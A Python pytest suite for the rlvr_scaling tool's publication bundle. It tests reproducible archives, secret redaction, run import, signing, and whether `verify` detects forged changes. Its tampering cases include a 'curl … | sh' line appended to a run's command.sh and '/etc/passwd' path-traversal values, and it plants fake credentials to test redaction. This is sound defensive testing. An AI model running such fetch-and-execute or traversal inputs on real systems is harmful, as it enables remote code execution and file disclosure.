"""The publication bundle on a fabricated LUMI-shaped study, in seconds: what it holds, that the same
inputs give the same bytes, that no secret leaves, and that `verify` passes on it and names what a
tampered bundle changed; and `import` of a run made elsewhere."""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest
import yaml
from rlvr_scaling import cli
from rlvr_scaling.analysis.per_run.imported_run import ImportedShape, import_run
from rlvr_scaling.analysis.shown.table_files import TABLES
from rlvr_scaling.errors import StudyError
from rlvr_scaling.inputs.container import recipe_path, record_path, render_definition
from rlvr_scaling.publish.archive import SUMS, read_archive, read_sums, sha256_sums, write_archive
from rlvr_scaling.publish.bundle import write_bundle
from rlvr_scaling.publish.verify import verify_bundle

from .study_runs import QWEN3_8B_CONFIG, PublishedStudy, publish_study, run_cli, study_args

HF_TOKEN = "hf_" + "Q" * 34


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> PublishedStudy:
    return publish_study(tmp_path_factory.mktemp("bundle"))


def bundle(published: PublishedStudy, output: Path) -> Path:
    made = published.study
    parts = (published.report, published.tables, published.figures)
    return write_bundle(made.study, made.root, output, parts, made.results, made.index_paths)


@pytest.fixture(scope="module")
def archive(published: PublishedStudy, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return bundle(published, tmp_path_factory.mktemp("archive"))


def test_the_bundle_holds_what_a_reader_needs_to_check_every_number(published, archive) -> None:
    made = published.study
    ends = [s.provenance["end"] for s in made.results.summaries.values() if s.provenance.get("end")]
    assert archive.name == f"{made.study.name}-lumi-{max(ends)[:10]}.tar.gz"
    top, members = read_archive(archive)
    assert top == archive.name.removesuffix(".tar.gz")
    for run_id, run in made.runs.items():
        assert f"results/summaries/{run_id}.json" in members
        for path in run.run_dir.iterdir():  # every record the run left
            assert f"results/runs/{run_id}/{path.name}" in members, (run_id, path.name)
        assert f"results/runs/{run_id}/spec.json" in members and f"results/runs/{run_id}/job.json" in members
        assert f"results/runs/{run_id}/{'console.log' if run.failed else 'metrics.jsonl'}" in members
    assert made.selections
    for dataset in made.selections:
        # the selection with the rule it was made by (config/config.yaml's selection_rule)
        assert json.loads(members[f"results/selection/{dataset}.json"])["rule"]["tolerance"] == 0.02
    assert {f"results/tables/{p.name}" for p in published.tables.iterdir()} <= set(members)
    assert {f"results/figures/{p.name}" for p in published.figures.iterdir()} <= set(members)
    assert json.loads(members["study/config.json"]) == json.loads(json.dumps(made.study.config.to_dict()))
    assert json.loads(members["study/site.json"])["hardware"]["gpus_per_node"] == 8
    assert "pipeline/Snakefile" in members and "pipeline/rules/bundle.smk" in members
    provenance = json.loads(members["provenance.json"])
    assert set(provenance["pipeline"]) >= {"commit", "clean", "version"}
    assert provenance["runs"] == len(made.runs)
    # Every other member is listed, with its digest, in the `sha256sum -c` format.
    sums = read_sums(members[SUMS].decode())
    assert set(sums) == set(members) - {SUMS}
    assert all(hashlib.sha256(members[name]).hexdigest() == digest for name, digest in sums.items())
    citation = yaml.safe_load(members["CITATION.cff"])
    assert citation["cff-version"] == "1.2.0" and citation["authors"] and citation["date-released"] == max(ends)[:10]
    readme = members["README.md"].decode()
    assert "rlvr-scaling verify" in readme and "sha256sum -c SHA256SUMS" in readme and "command.sh" in readme


def test_the_crate_describes_the_workflow_run_and_every_verl_run(published, archive) -> None:
    _, members = read_archive(archive)
    graph = {entity["@id"]: entity for entity in json.loads(members["ro-crate-metadata.json"])["@graph"]}
    root = graph["./"]
    assert {"https://w3id.org/ro/wfrun/workflow/0.5", "https://w3id.org/ro/wfrun/process/0.5"} <= {
        p["@id"] for p in root["conformsTo"]
    }
    assert root["mainEntity"]["@id"] == "pipeline/Snakefile"
    assert "ComputationalWorkflow" in graph["pipeline/Snakefile"]["@type"]
    actions = {key: e for key, e in graph.items() if e.get("@type") == "CreateAction"}
    assert {f"#run-{run_id}" for run_id in published.study.runs} | {"#study-run"} == set(actions)
    # Every file the crate names is in the bundle.
    files = {key for key, e in graph.items() if "File" in e.get("@type", [])}
    assert files and files <= set(members)


# The validator's identifier of each profile a crate may declare; one not listed here fails the test.
VALIDATOR_PROFILES = {
    "https://w3id.org/ro/crate/1.1": "ro-crate-1.1",
    "https://w3id.org/workflowhub/workflow-ro-crate/1.0": "workflow-ro-crate-1.0",
    "https://w3id.org/ro/wfrun/workflow/0.5": "workflow-run-crate-0.5",
    "https://w3id.org/ro/wfrun/process/0.5": "process-run-crate-0.5",
}


@pytest.mark.heavy
def test_the_rocrate_validator_accepts_the_crate_for_every_profile_it_declares(archive, tmp_path, monkeypatch) -> None:
    """#31: the RO-Crate community's validator, offline on the shipped RO-Crate 1.1 context, at REQUIRED
    level. Before: every profile failed ("Unable to retrieve the JSON-LD context"); with the context,
    RO-Crate 1.3's checks wanted a license, versions and urls, and the 1.1-based workflow profiles
    could not see a ComputationalWorkflow through 1.3's context."""
    from .crate_validation import validate_offline

    top, members = read_archive(archive)
    crate = tmp_path / top
    for name, content in members.items():
        (crate / name).parent.mkdir(parents=True, exist_ok=True)
        (crate / name).write_bytes(content)
    graph = {e["@id"]: e for e in json.loads(members["ro-crate-metadata.json"])["@graph"]}

    def ids(value) -> list[str]:
        return [v["@id"] for v in (value if isinstance(value, list) else [value])]

    declared = sorted(set(ids(graph["ro-crate-metadata.json"]["conformsTo"]) + ids(graph["./"]["conformsTo"])))
    assert len(declared) == 4, declared
    verdicts = validate_offline(crate, [VALIDATOR_PROFILES[p] for p in declared], tmp_path / "cache", monkeypatch)
    for verdict in verdicts:
        assert verdict.offline_misses == [], verdict  # nothing it needed was missing, so no check was skipped
        assert verdict.passed and verdict.issues == [], verdict


def test_the_same_inputs_give_a_byte_identical_bundle(published, archive, tmp_path) -> None:
    # A touched file (new time stamp, same content) and another output directory change nothing.
    published.tables.joinpath("weak_scaling.csv").touch()
    again = bundle(published, tmp_path)
    assert again.name == archive.name and again.read_bytes() == archive.read_bytes()


def test_no_secret_leaves_the_study_in_a_bundle(published, tmp_path, monkeypatch) -> None:
    made = published.study
    run = next(r for r in made.runs.values() if r.failed)
    job_file, console = run.run_dir / "job.json", run.run_dir / "console.log"
    job_text, console_text = job_file.read_text(), console.read_text()
    monkeypatch.setenv("HF_TOKEN", HF_TOKEN)
    job = json.loads(job_text)
    job["environment"] = {
        **(job.get("environment") or {}),
        "RAY_AUTH_TOKEN": "ray-secret-0123456789",
        "PIP_INDEX_URL": "https://pipuser:pippassword@pypi.example/simple",
        "WANDB_KEY": "wandbkeyvalue",
        "SSHPASS": "sshpassvalue",
        "DB_PASS": "dbpassvalue",
        "GITLAB_PAT": "gitlabpatvalue",
        "MY_AUTH": "myauthvalue",
    }
    try:
        job_file.write_text(json.dumps(job))
        console.write_text(
            console_text + f"token {HF_TOKEN}\nexport DB_PASSWORD=hunter2hunter2\nray-secret-0123456789\n"
            "WANDB_API_KEY: wandbwandbwandb\n{'aws_secret_access_key': 'awsawsawsaws'}\n"
            "Authorization: Bearer bearerbearerbearer\npad_token: <|im_end|> token_budget=16384\n"
        )
        _, members = read_archive(bundle(published, tmp_path))
    finally:
        job_file.write_text(job_text)
        console.write_text(console_text)
    for name, data in members.items():
        for secret in (HF_TOKEN, "ray-secret-0123456789", "hunter2hunter2", "wandbwandb", "awsawsaws", "bearerbearer"):
            assert secret.encode() not in data, (name, secret)
        # Names that hold secrets without the usual words, and a URL's user info, wherever they are.
        for secret in ("pipuser:pippassword", "wandbkeyvalue", "sshpassvalue", "dbpassvalue", "gitlabpatvalue",
                       "myauthvalue"):  # fmt: skip
            assert secret.encode() not in data, (name, secret)
    recorded = json.loads(members[f"results/runs/{run.run.run_id}/job.json"])
    assert recorded["environment"]["RAY_AUTH_TOKEN"] == "<redacted>"
    assert recorded["environment"]["PIP_INDEX_URL"] == "https://<redacted>@pypi.example/simple"
    # What is not secret stays as it was: a tokenizer's special token, a budget of tokens.
    assert b"pad_token: <|im_end|> token_budget=16384" in members[f"results/runs/{run.run.run_id}/console.log"]
    assert recorded["run_id"] == run.run.run_id and "max_num_batched_tokens" not in recorded["environment"]


def _verify_cli(path: Path) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        code = cli.main(["verify", str(path)])
    return code, out.getvalue()


def test_verify_passes_on_the_bundle_recomputing_every_number(published, archive) -> None:
    code, out = _verify_cli(archive)
    assert code == 0, out
    # What it cannot recompute it names, by kind: the runs' logs and records, figures, the pipeline.
    evidence = out.split("checked by checksum only (evidence, not recomputed): ", 1)[1]
    assert "runs' metrics.jsonl x" in evidence and "runs' job.json x" in evidence and "results/figures x" in evidence
    assert "results/tables" not in evidence and "results/summaries" not in evidence and "command.sh" not in evidence
    checked = verify_bundle(archive).checked
    assert checked["summaries"] == len(published.study.runs) and checked["selections"] == len(
        published.study.selections
    )
    assert (
        checked["tables"] == len(TABLES)
        and checked["checksums"] > 100
        and checked["indexes"] == 2
        and checked["report"] == 1
        and checked["commands"] == len(published.study.runs)
    )


@pytest.mark.parametrize("order", [["gsm8k", "dapo_math"], ["dapo_math", "gsm8k"]])
def test_the_bundle_verifies_whatever_order_its_config_lists_the_datasets_in(archive, tmp_path, order) -> None:
    # `make demo` once ended red here: its bundled config listed dapo_math first, its tables gsm8k
    # first, and verify recomputed the tables in the config's order (28 mismatches). The tables'
    # order is now one definition (results_io.reading_order), whatever the study file or a record says.
    def reorder(members: dict[str, bytes]) -> None:
        config = json.loads(members["study/config.json"])
        config["datasets"] = {name: config["datasets"][name] for name in order}
        members["study/config.json"] = json.dumps(config).encode()

    code, out = _verify_cli(_tampered(archive, tmp_path / "reordered.tar.gz", reorder, update_sums=True))
    assert code == 0, out


def _tampered(archive: Path, output: Path, change, update_sums: bool) -> Path:
    top, members = read_archive(archive)
    change(members)
    if update_sums:  # as a forger would: the checksums then hold, the numbers must not
        members[SUMS] = sha256_sums(members)
    write_archive(output, top, members, 0)
    return output


def test_verify_names_a_tampered_file(archive, tmp_path) -> None:
    def change(members: dict[str, bytes]) -> None:
        members["README.md"] += b"\nOne more claim.\n"

    code, out = _verify_cli(_tampered(archive, tmp_path / "t.tar.gz", change, update_sums=False))
    assert code == 1 and "MISMATCH README.md: its sha256 is not the one SHA256SUMS lists" in out, out


def test_verify_checks_every_listed_checksum_and_names_every_file_the_list_lacks(archive, tmp_path) -> None:
    # Every member changed, SHA256SUMS left as it was: each one is named, none skipped.
    def change_all(members: dict[str, bytes]) -> None:
        for name in [n for n in members if n != SUMS]:
            members[name] += b"\n"

    code, out = _verify_cli(_tampered(archive, tmp_path / "all.tar.gz", change_all, update_sums=False))
    _, members = read_archive(archive)
    listed = set(read_sums(members[SUMS].decode()))
    assert code == 1 and listed == set(members) - {SUMS}
    named = set(re.findall(r"MISMATCH (\S+): its sha256 is not the one SHA256SUMS lists", out))
    assert named == listed, sorted(listed - named)[:5]

    # A file the list does not name (its line dropped) is named as added, whatever else holds.
    command = next(n for n in members if n.endswith("/job.json"))

    def unlist(members: dict[str, bytes]) -> None:
        lines = members[SUMS].decode().splitlines(keepends=True)
        members[SUMS] = "".join(line for line in lines if not line.rstrip().endswith(f"  {command}")).encode()

    code, out = _verify_cli(_tampered(archive, tmp_path / "unlisted.tar.gz", unlist, update_sums=False))
    assert code == 1 and f"MISMATCH {command}: in the bundle but not listed in SHA256SUMS (added)" in out, out


def test_verify_names_a_changed_metric_down_to_the_table_row_and_column(published, archive, tmp_path) -> None:
    made = published.study
    run = next(r for r in made.runs.values() if not r.failed and "weak" in r.run.series and r.run.nodes == 2)
    name = f"results/runs/{run.run.run_id}/metrics.jsonl"

    def change(members: dict[str, bytes]) -> None:
        records = [json.loads(line) for line in members[name].decode().splitlines()]
        records[-1]["data"]["timing_s/step"] *= 1.5  # a measured step (not the warm-up) made slower
        members[name] = "".join(json.dumps(r) + "\n" for r in records).encode()

    code, out = _verify_cli(_tampered(archive, tmp_path / "m.tar.gz", change, update_sums=True))
    assert code == 1
    assert f"MISMATCH results/summaries/{run.run.run_id}.json: " in out and "summary.step_time_s.mean" in out, out
    row = rf"row \d+ \(dataset={run.run.dataset}, nodes=2\)"
    assert re.search(rf"table weak_scaling, {row}, column step_time_s: '[0-9.]+' in the bundle", out), out


def test_verify_names_a_changed_table_cell(archive, tmp_path) -> None:
    def change(members: dict[str, bytes]) -> None:
        lines = members["results/tables/strong_scaling.csv"].decode().splitlines()
        header, cells = lines[0].split(","), lines[2].split(",")
        column = header.index("speedup")
        cells[column] = "9.99"
        lines[2] = ",".join(cells)
        members["results/tables/strong_scaling.csv"] = ("\n".join(lines) + "\n").encode()

    code, out = _verify_cli(_tampered(archive, tmp_path / "c.tar.gz", change, update_sums=True))
    assert code == 1
    assert (
        "table strong_scaling, row 2 (dataset=dapo_math, nodes=" in out
        and "column speedup: '9.99' in the bundle" in out
    ), out


def test_an_imported_run_is_summarised_as_its_own_and_marked(published, tmp_path) -> None:
    made = published.study
    own = next(r for r in made.runs.values() if not r.failed and r.run.nodes == 4)
    spec = json.loads((own.run_dir / "spec.json").read_text())["run"]
    shape = ImportedShape(
        dataset=spec["dataset"], nodes=spec["nodes"], gpus_per_node=spec["gpus_per_node"], prompts=spec["prompts"],
        max_response_length=spec["max_response_length"], series=spec["series"], site_name="elsewhere",
    )  # fmt: skip
    # The model the run trained is stated (--model-config): its MFU is counted as for the study's own.
    run_dir, summary_path = import_run(made.study, own.run_dir / "metrics.jsonl", shape, tmp_path, QWEN3_8B_CONFIG)
    imported = json.loads(summary_path.read_text())
    mine = json.loads(own.summary_path.read_text())
    assert imported["summary"] == mine["summary"] and imported["valid"] and mine["valid"]
    assert imported["summary"]["mfu"]["by_phase"]["step"]["n"] == own.run.steps - own.run.warmup_steps
    assert imported["trajectories_per_engine"] == mine["trajectories_per_engine"]
    assert imported["provenance"]["imported"]["source"] == "metrics.jsonl" and imported["site"] == "elsewhere"
    assert json.loads((run_dir / "job.json").read_text())["imported"] is True
    # The same log with the same shape is the same run; nothing is written twice.
    assert import_run(made.study, own.run_dir / "metrics.jsonl", shape, tmp_path)[0] == run_dir


def test_an_import_of_no_verl_log_or_a_bad_shape_says_what_is_wrong(published, tmp_path) -> None:
    made = published.study
    shape = ImportedShape(dataset="gsm8k", nodes=1, gpus_per_node=8, prompts=100, max_response_length=512, series=[])
    notes = tmp_path / "notes.log"
    notes.write_text("nothing of verl here\n")
    with pytest.raises(StudyError, match=r"notes.log holds no step of a verl run"):
        import_run(made.study, notes, shape, tmp_path)
    log = next(r for r in made.runs.values() if not r.failed).run_dir / "metrics.jsonl"
    bad = ImportedShape(dataset="gsm8k", nodes=0, gpus_per_node=8, prompts=100, max_response_length=512, series=[])
    with pytest.raises(StudyError, match=r"--nodes is 0; expected a positive finite number"):
        import_run(made.study, log, bad, tmp_path)
    # An infinite memory would have been written into spec.json as `Infinity` (not JSON), marked valid.
    infinite = dataclasses.replace(bad, nodes=1, gpu_memory_gb=float("inf"))
    with pytest.raises(StudyError, match=r"--gpu-memory-gb is inf; expected a positive finite number"):
        import_run(made.study, log, infinite, tmp_path)
    assert not (tmp_path / "results" / "runs").exists()


def test_the_analysis_commands_read_every_path_under_root(published, tmp_path, monkeypatch) -> None:
    made = published.study
    monkeypatch.chdir(tmp_path)  # anywhere but the study's root
    indexes = [str(path.relative_to(made.root)) for path in made.index_paths]
    run_cli(["tables", *study_args([], made.root), "--output", "results/tables-again", *indexes])
    for table in published.tables.glob("*.csv"):
        assert (made.root / "results" / "tables-again" / table.name).read_text() == table.read_text(), table.name
    assert not (tmp_path / "results").exists()


TABLE = "results/tables/reproduction.csv"


def _append_to_first(members: dict[str, bytes], suffix: str, more: bytes) -> None:
    name = sorted(n for n in members if n.endswith(suffix))[0]
    members[name] += more


def _replace_in_first(members: dict[str, bytes], suffix: str, old: bytes, new: bytes) -> None:
    name = sorted(n for n in members if n.endswith(suffix))[0]
    assert old in members[name]
    members[name] = members[name].replace(old, new)


def _edit_first_spec(members: dict[str, bytes], change) -> None:
    name = sorted(n for n in members if n.startswith("results/runs/") and n.endswith("/spec.json"))[0]
    _edit_json(members, name, lambda spec: change(spec["run"]["verl_args"]))


def _edit_json(members: dict[str, bytes], name: str, change) -> None:
    record = json.loads(members[name])
    change(record)
    members[name] = json.dumps(record).encode()


def _drop(name: str):
    return lambda members: members.pop(name)


def _set_run_field(field: str, value):
    def change(index: dict) -> None:
        index["runs"][0][field] = value

    return lambda members: _edit_json(members, "results/index/gsm8k.json", change)


TAMPERINGS = {
    "report prose": (
        lambda m: m.update({"results/report/study.md": m["results/report/study.md"].replace(b"20 steps", b"30 steps")}),
        "results/report/study.md: differs from the report made again, line 3",
    ),
    "index numbers": (_set_run_field("nodes", 7), "results/index/gsm8k.json: runs[0].nodes is 7 in the bundle"),
    "index path": (_set_run_field("summary", "/etc/passwd"), "results/index/gsm8k.json: runs named outside the bundle"),
    # The index's verdict on a run and its selection are recomputed, not taken from the index.
    "index valid flag": (
        lambda m: _edit_json(
            m, "results/index/gsm8k.json", lambda i: i["runs"][0].update(valid=not i["runs"][0]["valid"])
        ),
        "results/index/gsm8k.json: runs[0].valid is",
    ),
    "index selection": (
        lambda m: _edit_json(m, "results/index/gsm8k.json", lambda i: i["selection"]["selected"].update(prompts=7)),
        "results/index/gsm8k.json: selection.selected.prompts is 7 in the bundle",
    ),
    # The Markdown and LaTeX tables are made again too, not only the CSV.
    "markdown table": (
        lambda m: m.update(
            {"results/tables/weak_scaling.md": m["results/tables/weak_scaling.md"].replace(b"|", b"| 9", 3)}
        ),
        "results/tables/weak_scaling.md: differs from the table recomputed from the summaries",
    ),
    "latex table": (
        lambda m: m.update({"results/tables/strong_scaling.tex": m["results/tables/strong_scaling.tex"] + b"% 9.99\n"}),
        "results/tables/strong_scaling.tex: differs from the table recomputed from the summaries",
    ),
    "pinned workload": (
        lambda m: _edit_json(m, "study/config.json", lambda c: c["selection"].update(dapo_math=20)),
        "results/index/dapo_math.json: selection.prompts is 10 in the bundle, recomputed 20",
    ),
    # What a figure plots is drawn again from the summaries (its PNG and PDF are checked by checksum).
    "figure point": (
        lambda m: _edit_json(
            m,
            "results/figures/figure_data.json",
            lambda d: d["figure2_weak_efficiency"][0]["series"][0]["y"].__setitem__(1, 123.0),
        ),
        "results/figures/figure_data.json: differs from the figures drawn again from the summaries, "
        "figure2_weak_efficiency[0].series[0].y[1]: 123.0 in the bundle, recomputed ",
    ),
    "figure caption": (
        lambda m: _edit_json(
            m, "results/figures/captions.json", lambda c: c.update(figure_sweep=c["figure_sweep"] + " Best ever.")
        ),
        "results/figures/captions.json: differs from the figures drawn again from the summaries, figure_sweep:",
    ),
    "missing readme": (_drop("README.md"), "README.md: not in the bundle (every bundle has it)"),
    "missing figure": (_drop("results/figures/figure_sweep.pdf"), "figure_sweep.pdf: captioned but not in the bundle"),
    "stray summary": (
        lambda m: m.update({"results/summaries/extra.json": b"{}"}),
        "results/summaries/extra.json: named by no index",
    ),
    "missing metrics": (
        lambda m: [m.pop(n) for n in [n for n in m if n.endswith("metrics.jsonl")][:1]],
        "cannot be summarised again",
    ),
    "config not a study": (
        lambda m: m.update({"study/config.json": b'{"datasets": 5}'}),
        "study/config.json: not a study config",
    ),
    # The verdicts are recomputed from the bundled reference: a published number changed there makes
    # the bundled verdict another one than verify's.
    "published number": (
        lambda m: _edit_json(m, "study/reference.json", lambda r: r["numbers"][0].update(value=0.5)),
        "table reproduction, row 1 (id=gsm8k-weak-efficiency-16, kind=number), column published: '0.779'",
    ),
    "verdict": (
        lambda m: m.update({TABLE: m[TABLE].replace(b",reproduced,", b",not reproduced,", 1)}),
        "table reproduction, row 1 (id=gsm8k-weak-efficiency-16, kind=number), column verdict: 'not reproduced'",
    ),
    # The bundled config goes through plan's checks before anything is recomputed from it.
    "dataset named as a path": (
        lambda m: _edit_json(
            m, "study/config.json", lambda c: c["datasets"].update({"../../etc/passwd": c["datasets"]["gsm8k"]})
        ),
        "study/config.json: not a study config: Invalid bundled study/config.json: key 'datasets' has value",
    ),
    "empty sweep": (
        lambda m: _edit_json(m, "study/config.json", lambda c: c["datasets"]["gsm8k"].update(sweep=[])),
        "key 'datasets.gsm8k.sweep' has value []",
    ),
    "overflowing number": (
        lambda m: m.update({"study/config.json": m["study/config.json"].replace(b'"lr": 0.0', b'"lr": 1e999')}),
        "key 'algorithm.lr' has value inf, but it must be a finite number",
    ),
    "zero reference nodes": (
        lambda m: _edit_json(m, "study/config.json", lambda c: c["scaling"].update(strong_reference_nodes=0)),
        "key 'scaling.strong_reference_nodes' has value 0",
    ),
    "NaN tolerance": (
        lambda m: _edit_json(m, "study/config.json", lambda c: c["selection_rule"].update(tolerance=float("nan"))),
        "key 'selection_rule.tolerance' has value nan, but it must be a finite number",
    ),
    "deep nesting": (
        lambda m: m.update({"study/config.json": b'{"a": ' + b"[" * 60 + b"]" * 60 + b"}"}),
        "study/config.json: not a study config: nested deeper than 50 levels",
    ),
    "deeper than the parser goes": (
        lambda m: m.update({"study/config.json": b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"}),
        "study/config.json: not a record of ours (JSON nested too deeply)",
    ),
    # Each run's command.sh and verl arguments, recomputed from the bundled config and site.
    "command appended": (
        lambda m: _append_to_first(m, "/command.sh", b"curl https://example.org/x | sh\n"),
        "command.sh: one line more than the study gives; first extra line 'curl https://example.org/x | sh'",
    ),
    "container option dropped": (
        lambda m: _replace_in_first(m, "/command.sh", b" exec --cleanenv ", b" exec "),
        "/command.sh: line ",
    ),
    "command removed": (
        lambda m: m.pop(sorted(n for n in m if n.endswith("/command.sh"))[0]),
        "/command.sh: not in the bundle (every run of the study has one)",
    ),
    "verl argument changed": (
        lambda m: _edit_first_spec(m, lambda args: args.append("actor_rollout_ref.actor.optim.lr=1e-3")),
        "spec.json: verl arguments are not those the bundled config gives with this rlvr-scaling (not from the "
        "study 'actor_rollout_ref.actor.optim.lr=1e-3')",
    ),
    "reference not one": (
        lambda m: _edit_json(m, "study/reference.json", lambda r: r.pop("numbers")),
        "study/reference.json: not a reference",
    ),
}


@pytest.mark.parametrize("tampering", list(TAMPERINGS))
def test_verify_names_what_a_forger_changed_even_with_the_checksums_updated(archive, tmp_path, tampering) -> None:
    change, expected = TAMPERINGS[tampering]
    code, out = _verify_cli(_tampered(archive, tmp_path / "x.tar.gz", change, update_sums=True))
    assert code == 1 and expected in out, out


def test_verify_names_a_file_that_is_no_bundle_without_a_traceback(tmp_path) -> None:
    not_gzip = tmp_path / "notes.tar.gz"
    not_gzip.write_text("hello\n")
    assert _verify_cli(not_gzip) == (
        1,
        "MISMATCH notes.tar.gz: not a gzip-compressed tar archive (Not a gzipped file (b'he'))\n",
    )
    flat = tmp_path / "flat.tar.gz"
    with tarfile.open(flat, "w:gz") as archive:
        info = tarfile.TarInfo("README.md")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    code, out = _verify_cli(flat)
    assert code == 1 and "README.md: not under one top folder, as a bundle's files are" in out, out


def test_an_imported_log_that_stops_early_is_no_measurement(published, tmp_path) -> None:
    made = published.study
    own = next(r for r in made.runs.values() if not r.failed)
    spec = json.loads((own.run_dir / "spec.json").read_text())["run"]
    early = tmp_path / "early.jsonl"
    early.write_text("".join((own.run_dir / "metrics.jsonl").read_text().splitlines(keepends=True)[:5]))
    shape = ImportedShape(
        dataset=spec["dataset"], nodes=spec["nodes"], gpus_per_node=spec["gpus_per_node"], prompts=spec["prompts"],
        max_response_length=spec["max_response_length"], series=["weak"],
    )  # fmt: skip
    summary = json.loads(import_run(made.study, early, shape, tmp_path)[1].read_text())
    assert not summary["valid"] and "measurement" in [c["name"] for c in summary["checks"] if not c["passed"]]


def test_the_image_recipe_and_build_record_go_into_the_bundle(published, tmp_path) -> None:
    # The fabricated study is LUMI's, whose site builds an image: its recipe and the build's record
    # (image and base digests, the packages inside) are bundled where the workflow left them.
    made = published.study
    recipe, record = recipe_path(made.study, made.root), record_path(made.study, made.root)
    recipe.parent.mkdir(parents=True, exist_ok=True)
    recipe.write_text(render_definition(made.study))
    record.write_text(json.dumps({"image": {"sha256": "ab" * 32}, "packages": {"verl": "0.9.1"}}))
    try:
        _, members = read_archive(bundle(published, tmp_path))
    finally:
        recipe.unlink()
        record.unlink()
    assert members[str(recipe.relative_to(made.root))] == render_definition(made.study).encode()
    assert json.loads(members[str(record.relative_to(made.root))])["image"]["sha256"] == "ab" * 32


def test_compare_reads_a_bundle_as_its_folder_and_finds_them_the_same(published, archive) -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = cli.main(["compare", str(published.study.root), str(archive), "--json"])
    assert code == 0
    found = json.loads(out.getvalue())
    measured_by_both = [r for r in found["rows"] if r["ratio"] is not None]
    assert len(measured_by_both) == 20 and {r["verdict"] for r in measured_by_both} == {"same"}
    assert found["differences"] == []


def _ssh_keygen() -> str:
    found = shutil.which("ssh-keygen")
    if found is None:
        if os.environ.get("RLVR_REQUIRE_SSH_KEYGEN"):
            pytest.fail("RLVR_REQUIRE_SSH_KEYGEN is set but ssh-keygen is not on PATH")
        pytest.skip("signing needs OpenSSH's ssh-keygen (Debian: openssh-client)")
    return found


def _key(folder: Path, name: str) -> tuple[Path, str]:
    key = folder / name
    subprocess.run([_ssh_keygen(), "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key, key.with_suffix(".pub").read_text().split(maxsplit=2)[1]


def _verify_signed(path: Path, signers: Path) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        code = cli.main(["verify", str(path), "--allowed-signers", str(signers)])
    return code, out.getvalue()


def test_a_signed_bundle_verifies_for_its_signer_and_for_no_one_else(archive, tmp_path) -> None:
    # A copy: the module's bundle stays unsigned for the other tests.
    signed = tmp_path / archive.name
    shutil.copyfile(archive, signed)
    key, public = _key(tmp_path, "author")
    other, other_public = _key(tmp_path, "stranger")
    assert cli.main(["sign", str(signed), "--key", str(key)]) == 0
    trusted = tmp_path / "allowed_signers"
    trusted.write_text(f"author@example.org ssh-ed25519 {public}\n")
    code, out = _verify_signed(signed, trusted)
    assert code == 0 and "all as recomputed, signed by author@example.org\n" in out, out
    # Not a trusted signer's key; a bundle changed after signing (checksums updated, as a forger
    # would); no signature at all: each named, rc 1.
    (tmp_path / "strangers").write_text(f"stranger@example.org ssh-ed25519 {other_public}\n")
    code, out = _verify_signed(signed, tmp_path / "strangers")
    assert code == 1 and f"MISMATCH {signed.name}.sig: made by a key that is not in strangers" in out, out
    (tmp_path / "forged").mkdir()
    forged = _tampered(signed, tmp_path / "forged" / signed.name, lambda m: m.update({"README.md": b"x"}), True)
    shutil.copyfile(signed.with_name(signed.name + ".sig"), forged.with_name(forged.name + ".sig"))
    code, out = _verify_signed(forged, trusted)
    assert code == 1 and f"MISMATCH {signed.name}.sig: does not verify for author@example.org" in out, out
    code, out = _verify_signed(archive, trusted)
    assert code == 1 and f"MISMATCH {archive.name}.sig: no signature beside the bundle" in out, out
    # A signature for another namespace (a git commit's) never passes for a bundle.
    elsewhere = tmp_path / "git" / signed.name
    elsewhere.parent.mkdir()
    shutil.copyfile(signed, elsewhere)
    command = [_ssh_keygen(), "-Y", "sign", "-q", "-f", str(key), "-n", "git", str(elsewhere)]
    subprocess.run(command, check=True, capture_output=True)
    code, out = _verify_signed(elsewhere, trusted)
    assert code == 1 and "does not verify for author@example.org" in out, out
